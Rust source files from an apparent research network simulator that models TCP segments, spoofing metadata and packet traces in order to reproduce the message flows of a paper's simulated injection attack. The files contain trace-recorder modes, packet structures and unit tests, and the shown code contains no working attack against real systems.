            "summary" | "summary_only" | "summary-only" => Ok(TraceMode::SummaryOnly),
            other => {
                if let Some(n) = other.strip_prefix("ring:") {
                    if let Ok(n) = n.parse::<usize>() {
                        if n > 0 {
                            return Ok(TraceMode::Ring(n));
                        }
                    }
                }
                Err(ParseTraceModeError { input: s.to_string() })
            }
        }
    }
}

/// Running counters a [`Trace`] maintains in every mode, so bounded recorders
/// still answer "how much happened" questions.
///
/// The summary describes the *workload*, not the recorder: for the same run
/// it is byte-identical under [`TraceMode::Full`], [`TraceMode::Ring`] and
/// [`TraceMode::SummaryOnly`] — events evicted from a ring (or never retained
/// at all) still count here. How many events the recorder itself discarded is
/// recorder metadata, reported separately by [`Trace::recorder_dropped`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct TraceSummary {
    /// Transmissions seen (retained or not).
    pub total_events: u64,
    /// Attacker-injected transmissions seen.
    pub injected_events: u64,
    /// Transmissions carrying application payload.
    pub payload_events: u64,
    /// Total application payload bytes across all transmissions.
    pub payload_bytes: u64,
    /// Buffered pre-handshake send chunks evicted because their connection
    /// closed or was reset before establishing.
    pub pending_chunks_dropped: u64,
    /// Bytes in those evicted chunks.
    pub pending_bytes_dropped: u64,
}

/// One transmission recorded by the simulator.
///
/// Endpoint names are stored as [`NameId`] references into the owning
/// [`Trace`]'s name table; resolve them with [`Trace::name`] or render the
/// event with [`Trace::describe`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TraceEvent {
    /// Simulated time at which the packet left its sender.
    pub sent_at: Instant,
    /// Simulated time at which the packet reaches its destination.
    pub delivered_at: Instant,
    /// Interned sender name ("victim", "master", "server", ...).
    pub from: NameId,
    /// Interned receiver name.
    pub to: NameId,
    /// Whether the packet was injected by an attacker tap.
    pub injected: bool,
    /// The packet itself (payload shared with the delivered copy, not cloned).
    pub packet: Packet,
}

fn truncate(s: &str, max: usize) -> String {
    if s.len() <= max {
        s.to_string()
    } else {
        format!("{}…", &s[..max])
    }
}

/// An ordered log of packet transmissions in a simulation run, with an
/// interned endpoint-name table and a bounded-memory recorder mode.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Trace {
    mode: TraceMode,
    names: Vec<String>,
    // Interning table: keyed lookups only (the ordered view is `names`).
    // FxHashMap has no per-process RandomState, so even its internal layout
    // is reproducible across runs.
    name_index: FxHashMap<String, NameId>,
    events: VecDeque<TraceEvent>,
    summary: TraceSummary,
    /// Events the *recorder* discarded (ring overflow, summary-only mode or a
    /// mode switch). Kept outside [`TraceSummary`] so the summary stays
    /// byte-identical across recorder modes; `retained = total_events -
    /// recorder_dropped` still holds on every path.
    recorder_dropped: u64,
}

impl Default for Trace {
    fn default() -> Self {
        Trace::new()
    }
}

impl Trace {
    /// Creates an empty trace that retains every event ([`TraceMode::Full`]).
    pub fn new() -> Self {
        Trace::with_mode(TraceMode::Full)
    }

    /// Creates an empty trace with the given recorder mode.
    ///
    /// # Panics
    ///
    /// Panics on `Ring(0)` (a zero-capacity ring is [`TraceMode::SummaryOnly`]
    /// in disguise; ask for that instead).
    pub fn with_mode(mode: TraceMode) -> Self {
        if let TraceMode::Ring(n) = mode {
            assert!(n > 0, "ring capacity must be positive; use SummaryOnly to retain nothing");
        }
        Trace {
            mode,
            names: Vec::new(),
            name_index: FxHashMap::default(),
            events: VecDeque::new(),
            summary: TraceSummary::default(),
            recorder_dropped: 0,
        }
    }

    /// The recorder mode.
    pub fn mode(&self) -> TraceMode {
        self.mode
    }

    /// Switches the recorder mode in place. Already-retained events that the
    /// new mode would not hold are dropped (and counted in
    /// [`Trace::recorder_dropped`]); the name table and counters are
    /// untouched.
    ///
    /// # Panics
    ///
    /// Panics on `Ring(0)`, like [`Trace::with_mode`].
    pub fn set_mode(&mut self, mode: TraceMode) {
        match mode {
            TraceMode::Full => {}
            TraceMode::Ring(n) => {
                assert!(n > 0, "ring capacity must be positive; use SummaryOnly to retain nothing");
                while self.events.len() > n {
                    self.events.pop_front();
                    self.recorder_dropped += 1;
                }
            }
            TraceMode::SummaryOnly => {
                self.recorder_dropped += self.events.len() as u64;
                self.events.clear();
            }
        }
        self.mode = mode;
    }

    /// Returns `true` if this trace retains events at all (`Full` or `Ring`).
    pub fn retains_events(&self) -> bool {
        !matches!(self.mode, TraceMode::SummaryOnly)
    }

    /// An empty trace with the same mode and name table, used by the
    /// simulator to keep interned [`NameId`]s valid across
    /// [`crate::sim::Simulator::take_trace`].
    pub fn fresh_like(&self) -> Trace {
        Trace {
            mode: self.mode,
            names: self.names.clone(),
            name_index: self.name_index.clone(),
            events: VecDeque::new(),
            summary: TraceSummary::default(),
            recorder_dropped: 0,
        }
    }

    /// Interns `name`, returning its id (existing id if already interned).
    pub fn intern(&mut self, name: &str) -> NameId {
        if let Some(&id) = self.name_index.get(name) {
            return id;
        }
        let id = NameId(u32::try_from(self.names.len()).expect("name table fits in u32"));
        self.names.push(name.to_string());
        self.name_index.insert(name.to_string(), id);
        id
    }

    /// Resolves an interned id back to its name.
    ///
    /// # Panics
    ///
    /// Panics if the id was not interned by this trace (or one it was
    /// [`Trace::fresh_like`]-derived from).
    pub fn name(&self, id: NameId) -> &str {
        &self.names[id.0 as usize]
    }

    /// Looks up the id of an already-interned name.
    pub fn name_id(&self, name: &str) -> Option<NameId> {
        self.name_index.get(name).copied()
    }

    /// Appends an event, honouring the recorder mode.
    pub fn push(&mut self, event: TraceEvent) {
        self.note(event.injected, event.packet.segment.payload.len());
        match self.mode {
            TraceMode::Full => self.events.push_back(event),
            TraceMode::Ring(n) => {
                if self.events.len() == n {
                    self.events.pop_front();
                    self.recorder_dropped += 1;
                }
                self.events.push_back(event);
            }
            // `note` above already counted the event as recorder-dropped.
            TraceMode::SummaryOnly => {}
        }
    }

    /// Updates the summary counters for one transmission without storing an
    /// event. The simulator uses this in [`TraceMode::SummaryOnly`] so the hot
    /// path never materialises a [`TraceEvent`] at all; in that mode the
    /// event counts as recorder-dropped, keeping `retained = total - dropped`
    /// true on every path.
    pub fn note(&mut self, injected: bool, payload_len: usize) {
        self.summary.total_events += 1;
        if injected {
            self.summary.injected_events += 1;
        }
        if payload_len > 0 {
            self.summary.payload_events += 1;
            self.summary.payload_bytes += payload_len as u64;
        }
        if matches!(self.mode, TraceMode::SummaryOnly) {
            self.recorder_dropped += 1;
        }
    }

    /// Records the eviction of buffered pre-handshake sends whose connection
    /// died before establishing.
    pub fn note_dropped_pending(&mut self, chunks: u64, bytes: u64) {
        self.summary.pending_chunks_dropped += chunks;
        self.summary.pending_bytes_dropped += bytes;
    }

    /// The running counters (maintained in every mode). For the same run, the
    /// summary is byte-identical regardless of the recorder mode.
    pub fn summary(&self) -> &TraceSummary {
        &self.summary
    }

    /// Number of events the recorder discarded (ring overflow, summary-only
    /// mode or a mode switch). Recorder metadata, deliberately *not* part of
    /// the [`TraceSummary`]: `retained = total_events - recorder_dropped`.
    pub fn recorder_dropped(&self) -> u64 {
        self.recorder_dropped
    }

    /// Returns the retained events in transmission order.
    pub fn events(&self) -> impl Iterator<Item = &TraceEvent> {
        self.events.iter()
    }

    /// Number of *retained* events (see [`TraceSummary::total_events`] for the
    /// number seen).
    pub fn len(&self) -> usize {
        self.events.len()
    }

    /// Returns `true` if no transmissions are retained.
    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }

    /// Returns only attacker-injected transmissions (retained ones).
    pub fn injected(&self) -> impl Iterator<Item = &TraceEvent> {
        self.events.iter().filter(|e| e.injected)
    }

    /// Returns only transmissions carrying application payload (retained
    /// ones).
    pub fn with_payload(&self) -> impl Iterator<Item = &TraceEvent> {
        self.events
            .iter()
            .filter(|e| !e.packet.segment.payload.is_empty())
    }

    /// Total payload bytes transferred between the named endpoints (either
    /// direction), over the retained events.
    pub fn bytes_between(&self, a: &str, b: &str) -> usize {
        let (Some(a), Some(b)) = (self.name_id(a), self.name_id(b)) else {
            return 0;
        };
        self.events
            .iter()
            .filter(|e| (e.from == a && e.to == b) || (e.from == b && e.to == a))
            .map(|e| e.packet.segment.payload.len())
            .sum()
    }

    /// Returns a short one-line description of an event, in the style of the
    /// paper's figures: legitimate traffic is labelled plainly, attack traffic
    /// is marked.
    pub fn describe(&self, event: &TraceEvent) -> String {
        let marker = if event.injected { " [ATTACK]" } else { "" };
        let payload = String::from_utf8_lossy(&event.packet.segment.payload);
        let first_line = payload.lines().next().unwrap_or("").trim();
        let from = self.name(event.from);
        let to = self.name(event.to);
        if first_line.is_empty() {
            format!(
                "{} {} -> {}: {}{}",
                event.delivered_at, from, to, event.packet.segment.flags, marker
            )
        } else {
            format!(
                "{} {} -> {}: {} \"{}\"{}",
                event.delivered_at,
                from,
                to,
                event.packet.segment.flags,
                truncate(first_line, 60),
                marker
            )
        }
    }

    /// Renders the trace as a textual message-sequence diagram, one line per
    /// retained transmission, matching the structure of the paper's Figures 1
    /// and 2.
    pub fn render(&self) -> String {
        let mut out = String::new();
        for event in &self.events {
            out.push_str(&self.describe(event));
            out.push('\n');
        }
        out
    }

    /// Clears retained events and resets the summary counters. The name table
    /// (and all interned ids) stays valid.
    pub fn clear(&mut self) {
        self.events.clear();
        self.summary = TraceSummary::default();
        self.recorder_dropped = 0;
    }
}

impl fmt::Display for Trace {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.render())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::addr::IpAddr;
    use crate::packet::Segment;
    use crate::seq::SeqNum;

    fn push_event(trace: &mut Trace, from: &str, to: &str, payload: &[u8], injected: bool) {
        let seg = Segment::data(1000, 80, SeqNum::new(1), SeqNum::new(1), payload.to_vec());
        let from = trace.intern(from);
        let to = trace.intern(to);
        trace.push(TraceEvent {
            sent_at: Instant::from_micros(10),
            delivered_at: Instant::from_micros(20),
            from,
            to,
            injected,
            packet: Packet::new(IpAddr::new(1, 1, 1, 1), IpAddr::new(2, 2, 2, 2), seg),
        });
    }

    #[test]
    fn describe_marks_attack_traffic() {
        let mut trace = Trace::new();
        push_event(&mut trace, "victim", "server", b"GET / HTTP/1.1", false);
        push_event(&mut trace, "master", "victim", b"HTTP/1.1 200 OK", true);
        let lines: Vec<String> = trace.events().map(|e| trace.describe(e)).collect();
        assert!(!lines[0].contains("[ATTACK]"));
        assert!(lines[1].contains("[ATTACK]"));
        assert!(lines[1].contains("HTTP/1.1 200 OK"));
        assert!(lines[0].contains("victim -> server"));
    }

    #[test]
    fn trace_filters_and_counts() {
        let mut trace = Trace::new();
        push_event(&mut trace, "victim", "server", b"GET /a", false);
        push_event(&mut trace, "master", "victim", b"HTTP/1.1 200 OK", true);
        push_event(&mut trace, "server", "victim", b"", false);
        assert_eq!(trace.len(), 3);
        assert_eq!(trace.injected().count(), 1);
        assert_eq!(trace.with_payload().count(), 2);
        assert_eq!(trace.bytes_between("victim", "server"), 6);
        assert_eq!(trace.bytes_between("victim", "nobody"), 0);
        let rendering = trace.render();
        assert_eq!(rendering.lines().count(), 3);
        let summary = trace.summary();
        assert_eq!(summary.total_events, 3);
        assert_eq!(summary.injected_events, 1);
        assert_eq!(summary.payload_events, 2);
        assert_eq!(summary.payload_bytes, 21);
        assert_eq!(trace.recorder_dropped(), 0);
    }

    #[test]
    fn long_payload_lines_are_truncated() {
        let mut trace = Trace::new();
        let long = vec![b'a'; 200];
        push_event(&mut trace, "a", "b", &long, false);
        let line = trace.describe(trace.events().next().unwrap());
        assert!(line.len() < 200);
    }

    #[test]
    fn interning_deduplicates_names() {
        let mut trace = Trace::new();
        let a = trace.intern("victim");
        let b = trace.intern("victim");
        let c = trace.intern("server");
        assert_eq!(a, b);
        assert_ne!(a, c);
        assert_eq!(trace.name(a), "victim");
        assert_eq!(trace.name_id("server"), Some(c));
        assert_eq!(trace.name_id("unknown"), None);
    }

    #[test]
    fn ring_mode_keeps_only_the_most_recent_events() {
        let mut trace = Trace::with_mode(TraceMode::Ring(2));
        push_event(&mut trace, "a", "b", b"one", false);
        push_event(&mut trace, "a", "b", b"two", false);
        push_event(&mut trace, "a", "b", b"three", false);
        assert_eq!(trace.len(), 2);
        let payloads: Vec<Vec<u8>> = trace.events().map(|e| e.packet.segment.payload.to_vec()).collect();
        assert_eq!(payloads, vec![b"two".to_vec(), b"three".to_vec()]);
        assert_eq!(trace.summary().total_events, 3);
        assert_eq!(trace.recorder_dropped(), 1);
    }

    #[test]
    fn summary_only_mode_retains_no_events_but_counts_everything() {
        let mut trace = Trace::with_mode(TraceMode::SummaryOnly);
        push_event(&mut trace, "a", "b", b"payload", false);
        trace.note(true, 5);
        assert!(trace.is_empty());
        assert!(!trace.retains_events());
        let summary = trace.summary();
        assert_eq!(summary.total_events, 2);
        assert_eq!(summary.injected_events, 1);
        assert_eq!(summary.payload_bytes, 12);
        // Both the pushed event and the noted one count as recorder-dropped:
        // retained == total - dropped on every path.
        assert_eq!(trace.recorder_dropped(), 2);
        assert_eq!(trace.bytes_between("a", "b"), 0);
    }

    #[test]
    fn summary_is_byte_identical_across_recorder_modes() {
        // The same workload replayed under every mode: the TraceSummary (the
        // workload counters) must not depend on what the recorder retains,
        // including events evicted from a ring.
        let record = |mode: TraceMode| {
            let mut trace = Trace::with_mode(mode);
            for index in 0..10 {
                push_event(&mut trace, "victim", "server", b"GET /object", false);
                push_event(&mut trace, "master", "victim", b"HTTP/1.1 200 OK", index % 2 == 0);
            }
            trace.note_dropped_pending(1, 9);
            *trace.summary()
        };
        let full = record(TraceMode::Full);
        assert_eq!(full, record(TraceMode::Ring(3)));
        assert_eq!(full, record(TraceMode::Ring(1)));
        assert_eq!(full, record(TraceMode::SummaryOnly));
        assert_eq!(full.total_events, 20);
        assert_eq!(full.injected_events, 5);
    }

    #[test]
    fn fresh_like_preserves_mode_and_name_ids() {
        let mut trace = Trace::with_mode(TraceMode::Ring(8));
        let victim = trace.intern("victim");
        push_event(&mut trace, "victim", "server", b"x", false);
        let fresh = trace.fresh_like();
        assert!(fresh.is_empty());
        assert_eq!(fresh.mode(), TraceMode::Ring(8));
        assert_eq!(fresh.summary().total_events, 0);
        assert_eq!(fresh.name(victim), "victim");
    }

    #[test]
    fn pending_drops_are_summarised() {
        let mut trace = Trace::new();
        trace.note_dropped_pending(2, 77);
        assert_eq!(trace.summary().pending_chunks_dropped, 2);
        assert_eq!(trace.summary().pending_bytes_dropped, 77);
    }

    #[test]
    fn trace_mode_round_trips_through_strings() {
        for mode in [TraceMode::Full, TraceMode::SummaryOnly, TraceMode::Ring(1024)] {
            assert_eq!(mode.to_string().parse::<TraceMode>(), Ok(mode));
        }
        assert_eq!("SUMMARY".parse::<TraceMode>(), Ok(TraceMode::SummaryOnly));
        assert!("ring:0".parse::<TraceMode>().is_err());
        assert!("sometimes".parse::<TraceMode>().is_err());
    }

    #[test]
    #[should_panic(expected = "ring capacity must be positive")]
    fn zero_capacity_ring_is_rejected() {
        let _ = Trace::with_mode(TraceMode::Ring(0));
    }
}
