//! Packet capture and message-flow traces.
//!
//! The paper illustrates its attack phases with message-sequence diagrams
//! (Figures 1, 2 and 4). The simulator records every transmission in a
//! [`Trace`] so the experiment harness can regenerate those flows as text.

use crate::packet::Packet;
use crate::time::Instant;
use serde::{Deserialize, Serialize};
use std::fmt;

/// One transmission recorded by the simulator.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TraceEvent {
    /// Simulated time at which the packet left its sender.
    pub sent_at: Instant,
    /// Simulated time at which the packet reaches its destination.
    pub delivered_at: Instant,
    /// Human-readable sender name ("victim", "master", "server", ...).
    pub from: String,
    /// Human-readable receiver name.
    pub to: String,
    /// Whether the packet was injected by an attacker tap.
    pub injected: bool,
    /// The packet itself.
    pub packet: Packet,
}

impl TraceEvent {
    /// Returns a short one-line description, in the style of the paper's
    /// figures: legitimate traffic is labelled plainly, attack traffic is
    /// marked.
    pub fn describe(&self) -> String {
        let marker = if self.injected { " [ATTACK]" } else { "" };
        let payload = String::from_utf8_lossy(&self.packet.segment.payload);
        let first_line = payload.lines().next().unwrap_or("").trim();
        if first_line.is_empty() {
            format!(
                "{} {} -> {}: {}{}",
                self.delivered_at, self.from, self.to, self.packet.segment.flags, marker
            )
        } else {
            format!(
                "{} {} -> {}: {} \"{}\"{}",
                self.delivered_at,
                self.from,
                self.to,
                self.packet.segment.flags,
                truncate(first_line, 60),
                marker
            )
        }
    }
}

fn truncate(s: &str, max: usize) -> String {
    if s.len() <= max {
        s.to_string()
    } else {
        format!("{}…", &s[..max])
    }
}

/// An ordered log of every packet transmission in a simulation run.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Trace {
    events: Vec<TraceEvent>,
}

impl Trace {
    /// Creates an empty trace.
    pub fn new() -> Self {
        Self::default()
    }

    /// Appends an event.
    pub fn push(&mut self, event: TraceEvent) {
        self.events.push(event);
    }

    /// Returns all recorded events in transmission order.
    pub fn events(&self) -> &[TraceEvent] {
        &self.events
    }

    /// Number of recorded transmissions.
    pub fn len(&self) -> usize {
        self.events.len()
    }

    /// Returns `true` if no transmissions were recorded.
    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }

    /// Returns only attacker-injected transmissions.
    pub fn injected(&self) -> impl Iterator<Item = &TraceEvent> {
        self.events.iter().filter(|e| e.injected)
    }

    /// Returns only transmissions carrying application payload.
    pub fn with_payload(&self) -> impl Iterator<Item = &TraceEvent> {
        self.events
            .iter()
            .filter(|e| !e.packet.segment.payload.is_empty())
    }

    /// Total payload bytes transferred between the named endpoints
    /// (either direction).
    pub fn bytes_between(&self, a: &str, b: &str) -> usize {
        self.events
            .iter()
            .filter(|e| (e.from == a && e.to == b) || (e.from == b && e.to == a))
            .map(|e| e.packet.segment.payload.len())
            .sum()
    }

    /// Renders the trace as a textual message-sequence diagram, one line per
    /// payload-bearing or flagged transmission, matching the structure of the
    /// paper's Figures 1 and 2.
    pub fn render(&self) -> String {
        let mut out = String::new();
        for event in &self.events {
            out.push_str(&event.describe());
            out.push('\n');
        }
        out
    }

    /// Clears the trace.
    pub fn clear(&mut self) {
        self.events.clear();
    }
}

impl fmt::Display for Trace {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.render())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::addr::IpAddr;
    use crate::packet::Segment;
    use crate::seq::SeqNum;

    fn event(from: &str, to: &str, payload: &[u8], injected: bool) -> TraceEvent {
        let seg = Segment::data(1000, 80, SeqNum::new(1), SeqNum::new(1), payload.to_vec());
        TraceEvent {
            sent_at: Instant::from_micros(10),
            delivered_at: Instant::from_micros(20),
            from: from.into(),
            to: to.into(),
            injected,
            packet: Packet::new(IpAddr::new(1, 1, 1, 1), IpAddr::new(2, 2, 2, 2), seg),
        }
    }

    #[test]
    fn describe_marks_attack_traffic() {
        let legit = event("victim", "server", b"GET / HTTP/1.1", false);
        let attack = event("master", "victim", b"HTTP/1.1 200 OK", true);
        assert!(!legit.describe().contains("[ATTACK]"));
        assert!(attack.describe().contains("[ATTACK]"));
        assert!(attack.describe().contains("HTTP/1.1 200 OK"));
    }

    #[test]
    fn trace_filters_and_counts() {
        let mut trace = Trace::new();
        trace.push(event("victim", "server", b"GET /a", false));
        trace.push(event("master", "victim", b"HTTP/1.1 200 OK", true));
        trace.push(event("server", "victim", b"", false));
        assert_eq!(trace.len(), 3);
        assert_eq!(trace.injected().count(), 1);
        assert_eq!(trace.with_payload().count(), 2);
        assert_eq!(trace.bytes_between("victim", "server"), 6);
        let rendering = trace.render();
        assert_eq!(rendering.lines().count(), 3);
    }

    #[test]
    fn long_payload_lines_are_truncated() {
        let long = vec![b'a'; 200];
        let e = event("a", "b", &long, false);
        assert!(e.describe().len() < 200);
    }
}
