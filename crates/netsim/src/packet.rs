//! Packet and TCP segment model.
//!
//! The simulator works at the granularity of TCP segments wrapped in a thin
//! IPv4 envelope. Only the header fields that matter for the Master and
//! Parasite attack are modelled: addresses, ports, sequence and
//! acknowledgement numbers, flags, the receive window and the payload.

use crate::addr::{FourTuple, IpAddr, SocketAddr};
use crate::seq::SeqNum;
use bytes::Bytes;
use serde::{Deserialize, Serialize};
use std::fmt;

/// Default maximum segment size used by simulated hosts, in bytes.
///
/// 1460 matches an Ethernet MTU of 1500 minus 40 bytes of IPv4+TCP headers,
/// which is what the victims on the paper's WiFi network would negotiate.
pub const DEFAULT_MSS: usize = 1460;

/// TCP header flags. Only the flags the simulation acts upon are modelled.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize)]
pub struct TcpFlags {
    /// Synchronise sequence numbers (connection setup).
    pub syn: bool,
    /// Acknowledgement field is significant.
    pub ack: bool,
    /// No more data from sender (connection teardown).
    pub fin: bool,
    /// Reset the connection.
    pub rst: bool,
    /// Push buffered data to the application promptly.
    pub psh: bool,
}

impl TcpFlags {
    /// Flags for an initial SYN.
    pub const SYN: TcpFlags = TcpFlags {
        syn: true,
        ack: false,
        fin: false,
        rst: false,
        psh: false,
    };

    /// Flags for a SYN-ACK.
    pub const SYN_ACK: TcpFlags = TcpFlags {
        syn: true,
        ack: true,
        fin: false,
        rst: false,
        psh: false,
    };

    /// Flags for a plain ACK.
    pub const ACK: TcpFlags = TcpFlags {
        syn: false,
        ack: true,
        fin: false,
        rst: false,
        psh: false,
    };

    /// Flags for a data segment (PSH+ACK).
    pub const PSH_ACK: TcpFlags = TcpFlags {
        syn: false,
        ack: true,
        fin: false,
        rst: false,
        psh: true,
    };

    /// Flags for a FIN-ACK.
    pub const FIN_ACK: TcpFlags = TcpFlags {
        syn: false,
        ack: true,
        fin: true,
        rst: false,
        psh: false,
    };

    /// Flags for an RST.
    pub const RST: TcpFlags = TcpFlags {
        syn: false,
        ack: false,
        fin: false,
        rst: true,
        psh: false,
    };
}

impl fmt::Display for TcpFlags {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut names = Vec::new();
        if self.syn {
            names.push("SYN");
        }
        if self.fin {
            names.push("FIN");
        }
        if self.rst {
            names.push("RST");
        }
        if self.psh {
            names.push("PSH");
        }
        if self.ack {
            names.push("ACK");
        }
        if names.is_empty() {
            names.push("-");
        }
        write!(f, "{}", names.join("+"))
    }
}

/// A TCP segment: header fields plus payload.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Segment {
    /// Source port.
    pub src_port: u16,
    /// Destination port.
    pub dst_port: u16,
    /// Sequence number of the first payload byte (or of the SYN/FIN).
    pub seq: SeqNum,
    /// Acknowledgement number (next byte expected from the peer).
    pub ack: SeqNum,
    /// Header flags.
    pub flags: TcpFlags,
    /// Advertised receive window in bytes.
    pub window: u32,
    /// Payload bytes.
    #[serde(with = "serde_bytes_compat")]
    pub payload: Bytes,
}

// The vendored serde stub derives field-free impls, so these adapters are not
// called at runtime; they are kept (and allowed dead) so the `#[serde(with)]`
// annotation round-trips unchanged against the real serde.
#[allow(dead_code)]
mod serde_bytes_compat {
    //! `bytes::Bytes` does not implement serde by default in the feature set
    //! we enable; serialize through `Vec<u8>`.
    use bytes::Bytes;
    use serde::{Deserialize, Deserializer, Serializer};

    pub fn serialize<S: Serializer>(bytes: &Bytes, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_bytes(bytes)
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Bytes, D::Error> {
        let vec = Vec::<u8>::deserialize(deserializer)?;
        Ok(Bytes::from(vec))
    }
}

impl Segment {
    /// Creates a data segment.
    pub fn data(
        src_port: u16,
        dst_port: u16,
        seq: SeqNum,
        ack: SeqNum,
        payload: impl Into<Bytes>,
    ) -> Self {
        Segment {
            src_port,
            dst_port,
            seq,
            ack,
            flags: TcpFlags::PSH_ACK,
            window: 65_535,
            payload: payload.into(),
        }
    }

    /// Creates a control (payload-less) segment with the given flags.
    pub fn control(src_port: u16, dst_port: u16, seq: SeqNum, ack: SeqNum, flags: TcpFlags) -> Self {
        Segment {
            src_port,
            dst_port,
            seq,
            ack,
            flags,
            window: 65_535,
            payload: Bytes::new(),
        }
    }

    /// Length the segment occupies in sequence space: payload bytes plus one
    /// for SYN and one for FIN.
    pub fn seq_len(&self) -> u32 {
        let mut len = self.payload.len() as u32;
        if self.flags.syn {
            len += 1;
        }
        if self.flags.fin {
            len += 1;
        }
        len
    }

    /// Sequence number one past the last byte of this segment.
    pub fn seq_end(&self) -> SeqNum {
        self.seq + self.seq_len()
    }
}

/// An IPv4 packet carrying one TCP segment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Packet {
    /// Source IP address. The attacker sets this to the server's address when
    /// spoofing, which is exactly why the victim cannot tell injected segments
    /// from genuine ones.
    pub src_ip: IpAddr,
    /// Destination IP address.
    pub dst_ip: IpAddr,
    /// Time-to-live. Kept because some middlebox models inspect it.
    pub ttl: u8,
    /// The TCP segment.
    pub segment: Segment,
    /// True if the packet was crafted by an attacker rather than a genuine
    /// endpoint. This flag is *metadata for measurement only*: no simulated
    /// component is allowed to base protocol decisions on it (the victim
    /// cannot see it), but experiment harnesses use it to attribute outcomes.
    pub spoofed: bool,
}

impl Packet {
    /// Wraps a segment in an IPv4 envelope.
    pub fn new(src_ip: IpAddr, dst_ip: IpAddr, segment: Segment) -> Self {
        Packet {
            src_ip,
            dst_ip,
            ttl: 64,
            segment,
            spoofed: false,
        }
    }

    /// Marks the packet as attacker-crafted (measurement metadata only).
    pub fn spoofed(mut self) -> Self {
        self.spoofed = true;
        self
    }

    /// Returns the connection four-tuple in the direction of this packet.
    pub fn four_tuple(&self) -> FourTuple {
        FourTuple::new(
            SocketAddr::new(self.src_ip, self.segment.src_port),
            SocketAddr::new(self.dst_ip, self.segment.dst_port),
        )
    }

    /// Total simulated wire size in bytes (IPv4 + TCP headers + payload).
    pub fn wire_len(&self) -> usize {
        20 + 20 + self.segment.payload.len()
    }
}

impl fmt::Display for Packet {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}:{} -> {}:{} [{}] seq={} ack={} len={}{}",
            self.src_ip,
            self.segment.src_port,
            self.dst_ip,
            self.segment.dst_port,
            self.segment.flags,
            self.segment.seq,
            self.segment.ack,
            self.segment.payload.len(),
            if self.spoofed { " (spoofed)" } else { "" }
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seq_len_counts_syn_and_fin() {
        let syn = Segment::control(1000, 80, SeqNum::new(5), SeqNum::new(0), TcpFlags::SYN);
        assert_eq!(syn.seq_len(), 1);
        assert_eq!(syn.seq_end(), SeqNum::new(6));

        let fin = Segment::control(1000, 80, SeqNum::new(5), SeqNum::new(0), TcpFlags::FIN_ACK);
        assert_eq!(fin.seq_len(), 1);

        let data = Segment::data(1000, 80, SeqNum::new(5), SeqNum::new(0), &b"hello"[..]);
        assert_eq!(data.seq_len(), 5);
        assert_eq!(data.seq_end(), SeqNum::new(10));
    }

    #[test]
    fn packet_four_tuple_matches_header_fields() {
        let seg = Segment::data(51000, 80, SeqNum::new(1), SeqNum::new(1), &b"x"[..]);
        let pkt = Packet::new(IpAddr::new(10, 0, 0, 2), IpAddr::new(93, 184, 216, 34), seg);
        let tuple = pkt.four_tuple();
        assert_eq!(tuple.src.port, 51000);
        assert_eq!(tuple.dst.port, 80);
        assert_eq!(tuple.dst.ip, IpAddr::new(93, 184, 216, 34));
    }

    #[test]
    fn spoofed_flag_is_metadata_only() {
        let seg = Segment::data(80, 51000, SeqNum::new(1), SeqNum::new(1), &b"evil"[..]);
        let genuine = Packet::new(IpAddr::new(93, 184, 216, 34), IpAddr::new(10, 0, 0, 2), seg.clone());
        let spoofed = Packet::new(IpAddr::new(93, 184, 216, 34), IpAddr::new(10, 0, 0, 2), seg).spoofed();
        // Identical on the wire as far as any simulated endpoint is concerned.
        assert_eq!(genuine.four_tuple(), spoofed.four_tuple());
        assert_eq!(genuine.segment, spoofed.segment);
        assert!(spoofed.spoofed && !genuine.spoofed);
    }

    #[test]
    fn display_mentions_flags_and_spoofing() {
        let seg = Segment::control(80, 51000, SeqNum::new(9), SeqNum::new(3), TcpFlags::SYN_ACK);
        let pkt = Packet::new(IpAddr::new(1, 2, 3, 4), IpAddr::new(5, 6, 7, 8), seg).spoofed();
        let line = pkt.to_string();
        assert!(line.contains("SYN+ACK"));
        assert!(line.contains("(spoofed)"));
    }

    #[test]
    fn wire_len_includes_headers() {
        let seg = Segment::data(80, 51000, SeqNum::new(1), SeqNum::new(1), vec![0u8; 100]);
        let pkt = Packet::new(IpAddr::new(1, 2, 3, 4), IpAddr::new(5, 6, 7, 8), seg);
        assert_eq!(pkt.wire_len(), 140);
    }
}
