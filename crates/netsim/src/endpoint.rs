//! Hosts: endpoints with a socket-like TCP API.
//!
//! A [`Host`] owns a set of [`TcpConnection`]s and demultiplexes incoming
//! packets onto them. Server hosts can attach a [`Service`] that is invoked
//! whenever new application data arrives; the service's reply bytes are sent
//! back on the same connection by the simulator.

use crate::addr::{IpAddr, SocketAddr};
use crate::error::NetError;
use crate::fasthash::FxHashMap;
use crate::link::MediumId;
use crate::packet::{Packet, Segment};
use crate::seq::SeqNum;
use crate::tcp::{AcceptOutcome, TcpConnection, TcpState};
use bytes::Bytes;
use std::fmt;

/// Identifier of a host within a simulator.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct HostId(pub u64);

/// Identifier of a TCP connection within a host.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct ConnId(pub u64);

/// Application logic attached to a server host.
///
/// The simulator calls [`Service::on_data`] whenever new contiguous bytes
